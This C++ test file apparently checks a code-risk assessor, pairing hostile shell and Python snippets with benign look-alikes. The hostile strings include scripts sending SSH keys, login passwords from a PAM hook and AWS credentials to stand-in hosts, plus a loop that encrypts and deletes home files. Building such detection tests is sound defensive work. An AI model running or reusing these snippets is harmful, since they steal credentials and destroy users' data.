// The classes the fifty-fifth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog59_MANIFEST.tsv): programs that install something to
// run later, Python in a compact functional style, shell one-liners grown
// into scripts, quiet channels for data, and teaching code. Its aside
// scored 30/32 before any change; the classes below came from its tune part
// (63/68 before). Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// An unquoted here-document (<<H) expands its body and takes the backslash
// off \$: a script written with \$(cat ...) holds $(cat ...), and runs it.
TEST(FiftyFifthRoundClasses, AnUnquotedHereDocumentTakesTheBackslashOffDollars) {
  const Case cases[] = {
      {"a written reporter that reads the SSH key, then runs", B,
       "cat > ./report.sh <<H\n"
       "#!/bin/sh\n"
       "key=\\$(cat \"\\$HOME/.ssh/id_rsa\")\n"
       "curl -s -d \"k=\\$key\" https://collect.example.net/r\n"
       "H\n"
       "sh ./report.sh\n",
       "EXFILTRATION", SH},
      {"a written reporter that counts build files, then runs", L,
       "cat > ./report.sh <<H\n"
       "#!/bin/sh\n"
       "n=\\$(ls ./dist | wc -l)\n"
       "curl -s -d \"files=\\$n\" https://ci.example.com/status\n"
       "H\n"
       "sh ./report.sh\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// pam_exec with expose_authtok hands its program each login's password on
// standard input: a helper this code wrote and named in such a line is
// judged as a hook given that password.
TEST(FiftyFifthRoundClasses, APamHelperIsGivenEachLoginsPassword) {
  const Case cases[] = {
      {"a PAM helper posting the password it is given", B,
       "HELPER=/usr/local/lib/security/notify\n"
       "cat > \"$HELPER\" <<E\n"
       "#!/bin/sh\n"
       "read -r pw\n"
       "curl -s -d \"u=\\$PAM_USER&p=\\$pw\" https://sso.example.net/s\n"
       "E\n"
       "chmod 0700 \"$HELPER\"\n"
       "printf '%s\\n' \"auth optional pam_exec.so quiet expose_authtok $HELPER\" >> /etc/pam.d/common-auth\n",
       "EXFILTRATION", SH},
      {"a PAM line that only makes home directories", H,
       "printf '%s\\n' \"session optional pam_mkhomedir.so skel=/etc/skel umask=0077\" >> /etc/pam.d/common-session\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// itertools.chain and chain.from_iterable yield their iterables' items: the
// files of a walk per root, flattened, are still walked files.
TEST(FiftyFifthRoundClasses, ChainedWalksAreStillWalks) {
  const Case cases[] = {
      {"walks of home chained, encrypted and deleted", B,
       "import os\n"
       "from itertools import chain\n"
       "from pathlib import Path\n"
       "from cryptography.fernet import Fernet\n"
       "def walk(root):\n"
       "    for d, _, files in os.walk(root):\n"
       "        yield from (Path(d, f) for f in files)\n"
       "f = Fernet(Fernet.generate_key())\n"
       "for p in chain.from_iterable(map(walk, [str(Path.home())])):\n"
       "    p.with_suffix(\".locked\").write_bytes(f.encrypt(p.read_bytes()))\n"
       "    p.unlink()\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE"},
      {"walks of the project chained and listed", L,
       "import os\n"
       "from itertools import chain\n"
       "from pathlib import Path\n"
       "def walk(root):\n"
       "    for d, _, files in os.walk(root):\n"
       "        yield from (Path(d, f) for f in files)\n"
       "for p in chain.from_iterable(map(walk, [\"./src\", \"./tests\"])):\n"
       "    print(p, p.stat().st_size)\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// partial(f, x) called with y runs f(x, y): mapped over key files by a
// pool, each key is what f sends.
TEST(FiftyFifthRoundClasses, APartialBindsItsFirstArgument) {
  const Case cases[] = {
      {"SSH keys uploaded through a partial mapped by a pool", B,
       "from concurrent.futures import ThreadPoolExecutor\n"
       "from functools import partial\n"
       "from pathlib import Path\n"
       "import requests\n"
       "def upload(url, path):\n"
       "    requests.post(url, data=path.read_bytes(), timeout=10)\n"
       "keys = [Path.home() / \".ssh\" / n for n in (\"id_rsa\", \"id_ed25519\")]\n"
       "with ThreadPoolExecutor(4) as pool:\n"
       "    list(pool.map(partial(upload, \"https://drop.example.net/k\"), keys))\n",
       "EXFILTRATION"},
      {"build reports uploaded the same way", L,
       "from concurrent.futures import ThreadPoolExecutor\n"
       "from functools import partial\n"
       "from pathlib import Path\n"
       "import requests\n"
       "def upload(url, path):\n"
       "    requests.post(url, data=path.read_bytes(), timeout=10)\n"
       "reports = [Path(\"build\") / n for n in (\"junit.xml\", \"coverage.xml\")]\n"
       "with ThreadPoolExecutor(4) as pool:\n"
       "    list(pool.map(partial(upload, \"https://ci.example.com/reports\"), reports))\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// awk's system("...") (and "..." | getline, print | "...") runs a shell
// line; -v NAME=VALUE takes a value, so the program is the next operand.
TEST(FiftyFifthRoundClasses, AwkRunsTheCommandsItsProgramNames) {
  const Case cases[] = {
      {"services restarted from an awk program", H,
       "awk -v limit=500 '$2 > limit { system(\"systemctl restart \" $1) }' ./usage.txt\n",
       "SYSTEM-ADMINISTRATION", SH},
      {"the same awk program only printing", L,
       "awk -v limit=500 '$2 > limit { print \"over budget: \" $1 }' ./usage.txt\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// Thread.start() runs the subclass's run() then, and again with the state
// the module leaves (a consumer started before the queue is filled).
TEST(FiftyFifthRoundClasses, AThreadsRunStartsWithStart) {
  const Case cases[] = {
      {"a thread queues cloud credentials that the main code sends", B,
       "import os, queue, socket, threading\n"
       "class Collector(threading.Thread):\n"
       "    def __init__(self, out):\n"
       "        super().__init__(daemon=True)\n"
       "        self.out = out\n"
       "    def run(self):\n"
       "        with open(os.path.expanduser(\"~/.aws/credentials\")) as fh:\n"
       "            self.out.put(fh.read())\n"
       "q = queue.Queue()\n"
       "Collector(q).start()\n"
       "s = socket.create_connection((\"198.51.100.9\", 9000))\n"
       "s.sendall(q.get().encode())\n",
       "EXFILTRATION"},
      {"a thread queues a build summary that the main code prints", L,
       "import os, queue, socket, threading\n"
       "class Collector(threading.Thread):\n"
       "    def __init__(self, out):\n"
       "        super().__init__(daemon=True)\n"
       "        self.out = out\n"
       "    def run(self):\n"
       "        with open(\"./build/summary.txt\") as fh:\n"
       "            self.out.put(fh.read())\n"
       "q = queue.Queue()\n"
       "Collector(q).start()\n"
       "print(q.get())\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
